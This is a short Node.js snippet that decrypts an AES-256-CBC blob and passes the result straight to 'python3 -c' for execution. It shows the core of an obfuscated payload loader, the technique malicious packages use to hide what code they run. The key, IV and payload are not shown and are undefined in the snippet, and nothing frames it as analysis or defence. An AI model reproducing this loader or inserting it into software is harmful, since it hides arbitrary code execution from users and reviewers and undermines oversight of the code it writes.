const { createDecipheriv } = require("crypto");
const { spawn } = require("child_process");
const opened = createDecipheriv("aes-256-cbc", key, iv).update(data);
spawn("python3", ["-c", opened.toString()]);
